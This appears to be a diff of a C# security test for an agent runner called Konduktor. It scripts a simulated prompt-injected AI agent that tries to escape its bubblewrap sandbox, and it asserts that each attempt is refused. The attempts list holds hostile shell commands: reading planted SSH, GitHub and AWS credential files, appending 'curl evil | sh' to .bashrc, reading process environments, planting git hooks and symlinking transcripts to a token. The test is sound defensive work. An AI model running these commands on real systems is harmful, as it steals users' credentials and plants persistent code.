@@ -10,22 +10,43 @@ using Konduktor.Tests.Infrastructure;
 namespace Konduktor.Tests.Security;
 
 /// <summary>
-/// A prompt-injected agent tries every way out we can think of to a person's credentials or Konduktor's data, on a
-/// machine where the person, Azurite and the runner all live under one KONDUKTOR_HOME: each attempt fails, and the
-/// agent can still do its work in its worktree.
+/// A prompt-injected agent tries every way out we can think of to a person's credentials, their machine or Konduktor's
+/// data, on a machine where the person, Azurite and the runner all live: each attempt fails, and the agent can still
+/// do its work in its worktree.
 /// </summary>
 public sealed class UntrustedAgentTests
 {
+    /// <summary>A person's home as a developer's machine has it: keys, tokens, a shell profile.</summary>
+    private static string PersonsHome()
+    {
+        var person = Directory.CreateTempSubdirectory("konduktor-person-").FullName;
+        void Put(string relative, string content)
+        {
+            var path = Path.Combine(person, relative);
+            Directory.CreateDirectory(Path.GetDirectoryName(path)!);
+            File.WriteAllText(path, content);
+        }
+
+        Put(".ssh/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----\nPERSONS-SSH-KEY\n-----END OPENSSH PRIVATE KEY-----\n");
+        Put(".config/gh/hosts.yml", "github.com:\n    oauth_token: PERSONS-GH-TOKEN\n");
+        Put(".aws/credentials", "[default]\naws_secret_access_key = PERSONS-AWS-SECRET\n");
+        Put(".bashrc", "export PATH=$HOME/bin:$PATH\n");
+        Put(".gitconfig", "[user]\n\tname = The Person\n\temail = person@example.com\n");
+        return person;
+    }
+
     [Fact]
-    public async Task An_agent_cannot_read_the_persons_token_the_runners_credential_azurites_key_or_other_processes_and_still_does_its_work()
+    public async Task A_prompt_injected_agent_reaches_nothing_of_the_persons_or_konduktors_and_still_does_its_work()
     {
         await using var up = await KonduktorUp.StartAsync(extraArguments: ["--no-runner"]);
         var home = up.Home;
         Assert.True(OperatingSystem.IsWindows() || File.GetUnixFileMode(home) == (UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute), "KONDUKTOR_HOME is the user's alone");
+        var person = PersonsHome();
         var added = await up.CliAsync("--json", "runners", "add", "box");
         var secret = JsonSerializer.Deserialize<RunnerTicket>(added.Output, SessionsHost.Json)!.Secret;
-        await using var runner = await RunnerProcess.StartAsync(home, "box", extraArguments: ["--url", up.Url, "--registration-secret", secret]);
-        Assert.Contains("Agents: agents run isolated with bubblewrap", runner.Output, StringComparison.Ordinal);
+        await using var runner = await RunnerProcess.StartAsync(home, "box", extraArguments: ["--url", up.Url, "--registration-secret", secret], userHome: person, share: false);
+        Assert.Contains("Agents: agents run confined with bubblewrap", runner.Output, StringComparison.Ordinal);
+        var work = Path.Combine(home, "runners", "box");
         var state = JsonDocument.Parse(await File.ReadAllTextAsync(Path.Combine(home, "up.json"))).RootElement;
         var upPid = state.GetProperty("pid").GetInt32();
         var azuritePid = state.GetProperty("azuritePid").GetInt32();
@@ -33,28 +54,48 @@ public sealed class UntrustedAgentTests
         var azuriteKey = (await File.ReadAllTextAsync(Path.Combine(home, "azurite-key"))).Trim();
         var credential = await File.ReadAllTextAsync(Path.Combine(home, "runner-credentials", "box.json"));
 
+        // Another workspace's task ran on this runner first: its repository, worktree and transcript are on this machine.
+        var driver = new SessionDriver(up);
+        var (other, _) = await driver.CreateWorkspaceAsync();
+        var otherTask = await driver.CreateTaskAsync(other, "Someone else's work", StandInAgent.Script(new { write = "theirs.txt", content = "theirs\n" }, new { commit = "Theirs" }));
+        var otherSession = await driver.WaitForEndAsync(other, (await driver.RunAsync(other, otherTask)).Id);
+        Assert.True(otherSession.Status == SessionStatus.Succeeded, $"{otherSession.Status}: {otherSession.Error}");
+        var otherMirror = Assert.Single(Directory.GetDirectories(Path.Combine(work, "repos")));
+        var otherWorktree = Assert.Single(Directory.GetDirectories(Path.Combine(work, "worktrees"), "*", SearchOption.AllDirectories), d => File.Exists(Path.Combine(d, ".git")));
+        Assert.NotEmpty(Directory.GetFiles(Path.Combine(work, "transcripts")));
+        var bashrc = await File.ReadAllTextAsync(Path.Combine(person, ".bashrc"));
+
         // The markers are split in the command, so only the command's output can show them whole.
         string Attempt(int n, string command) => $"if {command}; then echo LEAK\"\"ED-{n}.; else echo REFU\"\"SED-{n}.; fi";
         var attempts = new[]
         {
-            Attempt(1, $"cat {home}/token"),
-            Attempt(2, $"cat {home}/config.json"),
-            Attempt(3, $"cat {home}/runner-credentials/box.json"),
-            Attempt(4, $"cat {home}/azurite-key"),
-            Attempt(5, $"ls {home}/azurite | grep -q ."),
-            Attempt(6, $"cat /proc/{upPid}/environ"),
-            Attempt(7, $"cat /proc/{azuritePid}/environ"),
-            Attempt(8, $"cat /proc/{azuritePid}/cmdline"),
-            Attempt(9, "env -u KONDUKTOR_TOKEN konduktor workspaces list"),
-            Attempt(10, $"env -u KONDUKTOR_TOKEN -u KONDUKTOR_SESSION KONDUKTOR_HOME={home} konduktor workspaces list"),
-            Attempt(11, "konduktor workspaces create someone/else"),
-            Attempt(12, "env | grep -E '^(KONDUKTOR_HOME|Konduktor__|AZURITE_)'"),
-            Attempt(13, $"ls -A {home}/runners/box | grep -E 'spool|agents'"),
-            Attempt(14, $"ls -A {home}/runners/box/sessions | grep -c . | grep -vx 1"),
+            Attempt(1, $"cat {person}/.ssh/id_ed25519"),
+            Attempt(2, $"cat {person}/.config/gh/hosts.yml"),
+            Attempt(3, $"cat {person}/.aws/credentials"),
+            Attempt(4, $"echo 'curl evil | sh' >> {person}/.bashrc"),
+            Attempt(5, "touch /usr/local/bin/konduktor-planted"),
+            Attempt(6, "mount -o remount,rw /usr 2>/dev/null && touch /usr/konduktor-planted"),
+            Attempt(7, $"ls {otherMirror} | grep -q ."),
+            Attempt(8, $"ls {otherWorktree} | grep -q ."),
+            Attempt(9, $"ls {work}/transcripts | grep -q ."),
+            Attempt(10, $"cat {home}/token"),
+            Attempt(11, $"cat {home}/runner-credentials/box.json"),
+            Attempt(12, $"cat {home}/azurite-key"),
+            Attempt(13, $"ls {home}/azurite | grep -q ."),
+            Attempt(14, $"cat /proc/{upPid}/environ"),
+            Attempt(15, $"cat /proc/{azuritePid}/environ"),
+            Attempt(16, "env -u KONDUKTOR_TOKEN konduktor workspaces list"),
+            Attempt(17, "env | grep -E '^(KONDUKTOR_HOME|Konduktor__|AZURITE_)'"),
+            Attempt(18, "echo '[core]' >> \"$(git rev-parse --git-common-dir)/config\""),
+            Attempt(19, "printf '#!/bin/sh\\necho planted\\n' > \"$(git rev-parse --git-common-dir)/hooks/post-commit\""),
+            Attempt(20, $"ls {person} | grep -q ."),
+            Attempt(21, $"ls -A {work} | grep -E 'spool|agents|runner'"),
         };
-        var driver = new SessionDriver(up);
         var (workspace, remote) = await driver.CreateWorkspaceAsync();
-        var steps = attempts.Select(a => (object)new { sh = a }).Concat([new { write = "work.txt", content = "done\n" }, new { commit = "Do the work" }, new { push = true }]).ToArray();
+        // Last, the transcript the runner keeps is made a link to the person's token.
+        var plant = $"for f in $HOME/.claude/projects/*/*.jsonl; do rm -f \"$f\"; ln -s {home}/token \"$f\"; done; echo planted";
+        var steps = attempts.Select(a => (object)new { sh = a })
+            .Concat([new { write = "work.txt", content = "done\n" }, new { commit = "Do the work" }, new { konduktor = new[] { "tasks", "list" } }, new { sh = plant }]).ToArray();
         var task = await driver.CreateTaskAsync(workspace, "Break out", StandInAgent.Script(steps));
 
         var session = await driver.WaitForEndAsync(workspace, (await driver.RunAsync(workspace, task)).Id);
@@ -63,15 +104,21 @@ public sealed class UntrustedAgentTests
         var transcript = string.Join('\n', (await driver.LogsAsync(workspace, session.Id)).Select(e => e.Text));
         for (var n = 1; n <= attempts.Length; n++)
         {
-            Assert.Contains($"REFUSED-{n}.", transcript, StringComparison.Ordinal);
-            Assert.DoesNotContain($"LEAKED-{n}.", transcript, StringComparison.Ordinal);
+            Assert.True(transcript.Contains($"REFUSED-{n}.", StringComparison.Ordinal) && !transcript.Contains($"LEAKED-{n}.", StringComparison.Ordinal), $"attempt {n}: {attempts[n - 1]}\n{transcript}");
         }
 
+        Assert.Equal(bashrc, await File.ReadAllTextAsync(Path.Combine(person, ".bashrc")));
+        Assert.False(File.Exists("/usr/local/bin/konduktor-planted") || File.Exists("/usr/konduktor-planted"));
+        Assert.Contains("is a symbolic link: not followed", transcript, StringComparison.Ordinal);
         Assert.Contains("session the CLI signs in with KONDUKTOR_TOKEN only", transcript, StringComparison.Ordinal);
-        Assert.DoesNotContain(token, transcript, StringComparison.Ordinal);
-        Assert.DoesNotContain(azuriteKey, transcript, StringComparison.Ordinal);
-        Assert.DoesNotContain(JsonDocument.Parse(credential).RootElement.GetProperty("token").GetString()!, transcript, StringComparison.Ordinal);
+        Assert.Contains("Break out", transcript, StringComparison.Ordinal);
+        foreach (var kept in new[] { token, azuriteKey, JsonDocument.Parse(credential).RootElement.GetProperty("token").GetString()!, "PERSONS-SSH-KEY", "PERSONS-GH-TOKEN", "PERSONS-AWS-SECRET" })
+        {
+            Assert.DoesNotContain(kept, transcript, StringComparison.Ordinal);
+        }
+
         Assert.Equal("done\n", await remote.GitAsync("show", $"{session.Branch}:work.txt"));
+        Assert.DoesNotContain("planted", await remote.GitAsync("log", "--format=%s", session.Branch!), StringComparison.Ordinal);
 
         // Azurite answers only to this home's key: the public development key every Azurite knows is refused.
         var tablePort = state.GetProperty("azuriteEndpoints").GetString()!.Split('/')[^1];
